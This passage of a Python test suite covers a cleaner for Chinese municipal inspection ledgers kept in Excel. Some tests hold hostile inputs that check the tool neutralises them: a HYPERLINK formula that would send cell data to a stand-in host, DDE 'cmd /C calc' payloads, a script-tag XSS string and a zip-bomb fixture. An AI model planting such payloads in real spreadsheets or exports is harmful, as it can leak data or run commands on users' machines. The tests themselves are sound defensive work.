            [2, D(2023, 3, 6), "民生", "幸福超市", "超市", 1, 1, 0, "否"]]
    write_xlsx(raw / "gas_safety" / "好-另存.xlsx", {"S": rows}, {"S": ["A1:I1"]})  # other bytes, the same records
    assert (raw / "gas_safety" / "好-另存.xlsx").read_bytes() != (raw / "gas_safety" / "好.xlsx").read_bytes()
    run = run_clean()
    assert run.table("gas_safety")["hazards_found"].sum() == 3
    line = line_for(run.text, "gas_safety/好-另存.xlsx")
    assert "gas_safety/好.xlsx" in line


def test_a_copy_with_an_extra_empty_sheet_and_other_spellings_is_the_same_ledger(raw, run_clean):
    good_gas(raw)
    rows = [["2023年燃气安全隐患排查整治台账"], GAS_HEADER,
            [1, "2023-03-05", "焦南街道", "老王烧烤", "餐饮", "2", 1, "3", "否"],
            [2, "2023年3月6日", "民生", "幸福超市", "超市", 1, "1", 0, "否"]]
    empty = [["2023年燃气安全隐患排查整治台账"], GAS_HEADER, [1, "不是日期", "焦南", "某店", "餐饮", 1, 1, 0, "否"]]
    write_xlsx(raw / "gas_safety" / "好（转存）.xlsx", {"S": rows, "空": empty})
    run = run_clean()
    assert run.table("gas_safety")["hazards_found"].sum() == 3
    dup = next(f for f in run.manifest["files"] if f["file"] == "gas_safety/好（转存）.xlsx")
    assert dup["status"] == "duplicate" and dup["duplicate_of"] == "gas_safety/好.xlsx"
    # The row rejected only in the copy is not lost: it is listed and counted.
    mine = rejects_of(run, "gas_safety/好（转存）.xlsx")
    assert mine[["sheet", "row"]].values.tolist() == [["空", "3"]] and dup["rows_rejected"] == 1
    assert run.manifest["ledgers"]["gas_safety"]["rows_rejected"] == 1
    assert "另有 1 行被剔除" in line_for(run.text, "gas_safety/好（转存）.xlsx")


def repeated_records(raw: Path) -> Path:
    return write_xlsx(raw / "demolitions" / "重复记录.xlsx", {"9月": [
        ["2023年违法建设拆除台账"], DEMO_HEADER,
        [1, D(2023, 9, 1), "新华", "人民路5号", 50, "彩钢", "自拆"],
        [2, D(2023, 9, 2), "新华", "人民路6号", 60, "彩钢", "自拆"],
        [3, D(2023, 9, 1), "新华街道", "人民路5号", "50平方米", "彩钢", "自行拆除"],
    ]})


def test_the_same_records_repeated_inside_one_file_are_kept(raw, run_clean):
    """Identical rows can be legitimate (two identical visits on one day): they are never dropped silently."""
    repeated_records(raw)
    run = run_clean()
    t = run.table("demolitions")
    assert t["source_row"].tolist() == [3, 4, 5] and t["area_m2"].sum() == 160
    assert run.exit_code == 0


def test_the_same_records_repeated_inside_one_file_are_named(raw, run_clean):
    repeated_records(raw)
    run = run_clean()
    assert run.sheet("demolitions/重复记录.xlsx", "9月")["repeated_rows"] == [[3, 5]]
    assert "第3、5行" in line_for(run.text, "[重复记录] demolitions/重复记录.xlsx / 9月")
    assert len(run.table("demolitions")) == 3  # still kept


# ---------------------------------------------------------------- item 5: nothing a cell smuggles in runs

def test_rejects_csv_neutralises_cells_that_a_spreadsheet_would_run(raw, run_clean):
    texts = {"C2": '=HYPERLINK("http://example.invalid/?d="&A1,"点此查看")', "C3": "+1+cmd|' /C calc'!A0",
             "C4": "-2+3+cmd|' /C calc'!A0", "C5": "@SUM(1+1)*cmd|' /C calc'!A0"}
    rows = [SV_HEADER] + [[i, "2023-03-05", "焦南", "游商", 1, "", ""] for i in range(1, 6)]
    text_cells(raw / "street_vending" / "注入.xlsx", "@3月", rows, texts)
    run = run_clean()
    assert run.table("street_vending")["source_row"].tolist() == [6]
    with open(run.out / "rejects.csv", encoding="utf-8-sig", newline="") as f:
        records = list(csv.DictReader(f))
    assert [r["value"] for r in records] == ["'" + texts[f"C{i}"] for i in range(2, 6)]
    assert {r["sheet"] for r in records} == {"'@3月"}
    for r in records:
        for key in ("file", "sheet", "column", "value", "reason"):
            assert r[key][:1] not in ("=", "+", "-", "@"), (key, r[key])
        assert r["reason"].startswith("未知街道“")


def test_a_unit_name_with_markup_shows_as_text_in_the_briefing(raw, run_clean):
    from analysis.report import pages
    from analysis.report.periods import Period

    name = "<script>alert(1)</script>烧烤"
    write_xlsx(raw / "gas_safety" / "g.xlsx", {"S": [
        ["2023年燃气安全隐患排查整治台账"], GAS_HEADER,
        [1, D(2023, 3, 5), "焦南", name, "餐饮", 1, 1, 0, "否"],
        [2, D(2023, 3, 6), "焦南", name, "餐饮", 1, 0, 0, "否"],
    ]})
    run = run_clean()
    assert run.table("gas_safety")["unit_name"].tolist() == [name, name]
    page = pages.top_contributors(pages.load(run.out), "gas_safety", Period(2023)).data
    assert "&lt;script&gt;alert(1)&lt;/script&gt;烧烤" in page
    assert "<script" not in page


# ---------------------------------------------------------------- one run over a folder that mixes everything

def build_mixed_folder(raw: Path, bomb: bytes) -> dict:
    """Two good workbooks per ledger with known totals, and every bad kind beside them.
    Returns {rel path: what the summary says about it} for the files named on a line of their own."""
    sv, gas, dust, demo = (raw / n for n in ("street_vending", "gas_safety", "dust_control", "demolitions"))
    # ---- good ledgers
    write_xlsx(sv / "2023" / "三月.xlsx", {"3月": [
        ["2023年3月三种经营整治台账"], SV_HEADER,
        [1, D(2023, 3, 5), "焦南", "游商", 2, "劝离", "解放路"],
        [2, D(2023, 3, 6), "民主街道", "占道", 3, "限期整改", "人民路"],
        [3, D(2023, 3, 7), "新华", "店外", 5, "暂扣", "建设路"],
        ["合计", None, None, None, 10]]}, {"3月": ["A1:G1"]})
    write_xlsx(sv / "2023" / "四月.xlsx", {"4月": [
        SV_HEADER, [1, D(2023, 4, 2), "焦西", "游商", 4, "劝离", "太行路"], [2, D(2023, 4, 3), "王褚", "占道", 1, "立案", "丰收路"]]})
    write_xlsx(gas / "一季度.xlsx", {"Sheet1": [
        ["2023年燃气安全隐患排查整治台账"], GAS_HEADER,
        [1, D(2023, 1, 5), "民生", "老王烧烤", "餐饮", 3, 2, 0, "否"],
        [2, D(2023, 2, 6), "焦北", "幸福超市", "超市", 1, 1, 4, "否"],
        [3, D(2023, 3, 7), "七百间", "无名仓库", "其他", 0, 0, 12, "是"]]})
    write_xlsx(gas / "二季度.xlsx", {"Sheet1": [
        GAS_HEADER,
        [1, D(2023, 4, 5), "上白作", "夕阳红养老院", "养老院", 2, 2, 0, "否"],
        [2, D(2023, 5, 6), "民生", "老王烧烤", "餐饮店", 1, 0, 0, "否"]]})
    write_xlsx(dust / "三月.xlsx", {"3月": [
        ["2023年3月扬尘管控点位督导检查台账"], DUST_HEADER,
        [1, D(2023, 3, 1), "焦南", "一号工地", "无", "日常巡查", ""],
        [2, D(2023, 3, 2), "焦南", "二号工地", "裸土未覆盖", "市级督导", "是"],
        [3, D(2023, 3, 3), "新华", "三号工地", "道路未硬化", "日常巡查", "否"]]})
    write_xlsx(dust / "四月.xlsx", {"4月": [
        DUST_HEADER,
        [1, D(2023, 4, 1), "民生", "四号工地", "车辆未冲洗", "市督导", "已整改"],
        [2, D(2023, 4, 2), "民生", "四号工地", "—", "巡查", ""]]})
    write_xlsx(demo / "上半年.xlsx", {"S": [
        ["2023年违法建设拆除台账"], DEMO_HEADER,
        [1, D(2023, 3, 5), "焦北", "丰收路1号", "120.5", "砖混", "自拆"],
        [2, D(2023, 5, 6), "王褚", "太行路2号", 300, "彩钢", "强拆"]]})
    write_xlsx(demo / "下半年.xlsx", {"S": [DEMO_HEADER, [1, D(2023, 8, 1), "焦西", "建设路3号", "85㎡", "砖混", "自行拆除"]]})
    # ---- files that are read although unusual (their rows count)
    html_xls(sv / "系统导出.xls", SV_HTML_ROWS)  # places 6 + 7
    path = write_xlsx(sv / "公式.xlsx", {"S": [
        SV_HEADER, [1, D(2023, 5, 5), "焦南", "游商", "=1+2", "", ""], [2, D(2023, 5, 6), "焦南", "游商", "=E2+1", "", ""],
        [3, D(2023, 5, 7), "焦南", "游商", "=E3*9", "", ""]]})
    with_cached_values(path, {"E2": 3, "E3": 4})  # places 3 + 4; E4 has no result: rejected
    write_xlsx(sv / "合并行.xlsx", {"3月": [
        SV_HEADER, [1, D(2023, 3, 5), "焦南", "游商", 2, "", ""], ["3月6日至8日因雨暂停巡查"] + [None] * 6,
        [3, D(2023, 3, 9), "焦南", "占道", 3, "", ""]]}, {"3月": ["A3:G3"]})  # places 2 + 3
    write_xlsx(gas / "类型变化.xlsx", {"6月": [
        GAS_HEADER,
        [1, D(2023, 6, 1), "民主", "A店", "餐饮", 1, 1, 0, "否"],
        [2, "2023.6.2", "民主", "B店", "餐饮", "2处", "1处", 0, "否"],
        [3, "2023年6月3日", "民主", "C店", "餐饮", "约3", 0, "2个", "否"],
        [4, dt.datetime(2023, 6, 4, 9, 30), "民主", "D店", "餐饮", 1, 0, 0, "否"],
        [5, D(2023, 6, 5), "民主", "E店", "餐饮", "见附件", 0, 0, "否"]]})  # found 7, rectified 2, cylinders 2
    write_xlsx(dust / "只有表头.xlsx", {"S": [DUST_HEADER]})
    repeated_records(raw)  # area 50 + 60 + 50
    # ---- bad cells (every data row of these files is rejected)
    write_xlsx(dust / "日期全错.xlsx", {"5月": [
        DUST_HEADER, [1, "五月五日", "焦南", "一号工地", "无", "", ""], [2, "见附件", "焦南", "二号工地", "裸土", "", "是"]]})
    write_xlsx(gas / "公式错误.xlsx", {"S": [
        GAS_HEADER, [1, D(2023, 3, 5), "民生", "甲店", "餐饮", "#REF!", 0, 0, "否"],
        [2, D(2023, 3, 5), "民生", "乙店", "餐饮", 1, "#DIV/0!", 0, "否"],
        [3, D(2023, 3, 5), "民生", "丙店", "餐饮", 1, 0, "#N/A", "否"]]})
    write_xlsx(gas / "钢瓶离谱.xlsx", {"S": [GAS_HEADER, [1, D(2023, 3, 5), "民生", "丁店", "餐饮", 0, 0, 1_000_000, "是"]]})
    write_xlsx(demo / "面积离谱.xlsx", {"S": [DEMO_HEADER, [1, D(2023, 10, 1), "焦南", "某地", 1e9, "", ""]]})
    write_xlsx(sv / "负数.xlsx", {"S": [SV_HEADER, [1, D(2023, 3, 5), "焦南", "游商", -3, "", ""],
                                       [2, D(2023, 3, 5), "焦南", "游商", 0, "", ""]]})
    write_xlsx(demo / "日期离谱.xlsx", {"S": [DEMO_HEADER, [1, TODAY + dt.timedelta(days=40), "焦南", "甲", 10, "", ""],
                                           [2, D(1999, 12, 31), "焦南", "乙", 10, "", ""]]})
    write_xlsx(sv / "年份矛盾.xlsx", {"S": [["2023年三种经营整治台账"], SV_HEADER, [1, D(2022, 3, 5), "焦南", "游商", 1, "", ""]]})
    # ---- files that cannot be read, skipped files, duplicates
    named = {}
    for rel, (build, reason) in {
        "gas_safety/空.xlsx": (lambda p: write_bytes(p, b""), "文件是空的（0 字节）"),
        "gas_safety/乱码.xlsx": (lambda p: write_bytes(p, bytes(range(256)) * 20), "文件已损坏或不是 Excel 文件"),
        "street_vending/下载一半.xlsx": (truncated_xlsx, "文件不完整"),
        "demolitions/加密.xlsx": (encrypted_xlsx, "工作簿已加密"),
        "demolitions/加密97.xls": (encrypted_xls, "工作簿已加密"),
        "street_vending/登录过期.xls": (lambda p: write_bytes(p, b"<html><body>session expired</body></html>"), "网页（HTML）"),
        "demolitions/炸弹.xlsx": (lambda p: write_bytes(p, bomb), "压缩炸弹"),
        "gas_safety/通知.xlsx": (docx_named_xlsx, "Word 文档"),
    }.items():
        build(raw / rel)
        named[rel] = ("[错误]", reason)
    write_xlsx(dust / "只有标题.xlsx", {"封面": [["2023年扬尘管控点位督导检查台账"]]})
    named["dust_control/只有标题.xlsx"] = ("[错误]", "文件中没有可识别的台账工作表")
    for name in ("说明.docx", "通知.pdf", "照片.jpg"):
        write_bytes(dust / name, b"x")
        named[f"dust_control/{name}"] = ("[跳过]", "不支持的文件类型")
    shutil.copy(gas / "一季度.xlsx", gas / "一季度（重发）.xlsx")  # sorts after the original
    named["gas_safety/一季度（重发）.xlsx"] = ("[提示]", "与“gas_safety/一季度.xlsx”内容完全相同，只计一次")
    shutil.copytree(sv / "2023", sv / "再次提交")
    named["street_vending/再次提交/三月.xlsx"] = ("[提示]", "内容完全相同，只计一次")
    named["street_vending/再次提交/四月.xlsx"] = ("[提示]", "内容完全相同，只计一次")
    return named


# Text tables under spreadsheet names (what web systems export): read as tables, the manifest and the screen say
# what they really were.
TEXT_TABLES = {
    "文本.xls": ("\t", "gbk", "GBK 编码、制表符分隔的文本文件"),
    "导出.xlsx": ("\t", "utf-16", "UTF-16 编码、制表符分隔的文本文件"),
    "导出.csv": (",", "utf-16", "UTF-16 编码、逗号分隔的文本文件"),
    "导出2.xls": (",", "utf-8-sig", "UTF-8 编码、逗号分隔的文本文件"),
}


@pytest.mark.parametrize("name", list(TEXT_TABLES))
def test_a_text_table_under_a_spreadsheet_name_is_read_and_named(raw, run_clean, name):
    sep, encoding, what = TEXT_TABLES[name]
    lines = ["2023年燃气安全隐患排查台账", sep.join(["排查日期", "街道", "单位名称", "单位类型", "发现隐患"]),
             sep.join(["2023-03-05", "焦南", "甲饭店", "餐饮", "2"]), sep.join(["2023-03-06", "民生", "乙超市", "超市", "1"])]
    write_bytes(raw / "gas_safety" / name, "\r\n".join(lines).encode(encoding))
    run = run_clean()
    assert run.exit_code == 0, run.text
    assert run.table("gas_safety")["hazards_found"].tolist() == [2, 1]
    record = next(f for f in run.manifest["files"] if f["file"] == f"gas_safety/{name}")
    assert record["status"] == "ok" and record.get("read_as") == (None if name.endswith(".csv") and sep == "," and
                                                                   encoding != "utf-16" else what)
    if record.get("read_as"):
        assert what in line_for(run.text, "[提示]", f"gas_safety/{name}")


# Files whose problems are per cell: each gets one summary line.
CELL_LEVEL_FILES = {
    "dust_control/日期全错.xlsx": ("5月", 2), "gas_safety/公式错误.xlsx": ("S", 3), "gas_safety/钢瓶离谱.xlsx": ("S", 1),
    "demolitions/面积离谱.xlsx": ("S", 1), "street_vending/负数.xlsx": ("S", 2), "demolitions/日期离谱.xlsx": ("S", 2),
    "street_vending/年份矛盾.xlsx": ("S", 1), "gas_safety/类型变化.xlsx": ("6月", 1), "street_vending/合并行.xlsx": ("3月", 1),
    "street_vending/公式.xlsx": ("S", 1),
}


def test_one_run_over_good_and_every_bad_kind_gives_exact_totals_and_a_line_per_bad_file(raw, tmp_path, bomb_bytes):
    from analysis.ingest.tables import load_manifest, load_rejects, load_table

    named = build_mixed_folder(raw, bomb_bytes)
    out = tmp_path / "out"
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "analysis", "clean", "--raw", str(raw), "--out", str(out)],
                          check=False, capture_output=True, text=True, timeout=120)
    assert time.perf_counter() - start < 15
    text = proc.stdout + proc.stderr
    assert proc.returncode == 1, text
    assert "Traceback" not in text and "Error" not in text

    sv, gas = load_table(out, "street_vending"), load_table(out, "gas_safety")
    dust, demo = load_table(out, "dust_control"), load_table(out, "demolitions")
    # street_vending: 三月 2+3+5, 四月 4+1, 系统导出.xls 6+7, 公式.xlsx 3+4, 合并行 2+3
    assert (len(sv), int(sv["places"].sum())) == (11, 40)
    # gas_safety: 一季度 + 二季度 + the four readable rows of 类型变化
    assert len(gas) == 9
    assert (gas["hazards_found"].sum(), gas["hazards_rectified"].sum(), gas["cylinders_seized"].sum()) == (14, 7, 18)
    assert gas["unit_name"].nunique() == 8 and int(gas["illegal_den"].sum()) == 1
    # dust_control: 三月 + 四月 (只有表头 adds nothing)
    assert len(dust) == 5
    assert int(((dust["source"] == "市级督导") & (dust["issue_type"] != "无")).sum()) == 2
    assert int(dust["rectified"].fillna(False).sum()) == 2
    # demolitions: 上半年 120.5 + 300, 下半年 85, 重复记录 50 + 60 + 50 (kept: identical rows may be real)
    assert (len(demo), float(demo["area_m2"].sum())) == (6, 665.5)

    for rel, (label, reason) in named.items():
        line = line_for(text, f"{label} {rel}：")
        assert reason in line, line
    manifest, rejects = load_manifest(out), load_rejects(out)
    for rel, (sheet, n) in CELL_LEVEL_FILES.items():
        mine = rejects[(rejects["file"] == rel) & (rejects["sheet"] == sheet)]
        assert mine["row"].nunique() == n, rel
        assert (mine["row"] != "").all() and mine["column"].str.contains("列）").all() and (mine["reason"] != "").all()
    assert "只有表头" not in text

    assert_accounting(SimpleNamespace(manifest=manifest, rejects=rejects, table=lambda ledger: load_table(out, ledger)))
    statuses = {f["file"]: f["status"] for f in manifest["files"]}
    assert statuses["street_vending/系统导出.xls"] == "ok" and statuses["dust_control/只有表头.xlsx"] == "ok"


def test_the_summary_has_a_line_for_every_file_with_rejected_or_repeated_rows(raw, run_clean, bomb_bytes):
    build_mixed_folder(raw, bomb_bytes)
    run = run_clean()
    for rel, (sheet, n) in CELL_LEVEL_FILES.items():
        assert f"剔除 {n} 行" in line_for(run.text, "[剔除]", f"{rel} / {sheet}")
    assert "第3、5行" in line_for(run.text, "[重复记录] demolitions/重复记录.xlsx / 9月")
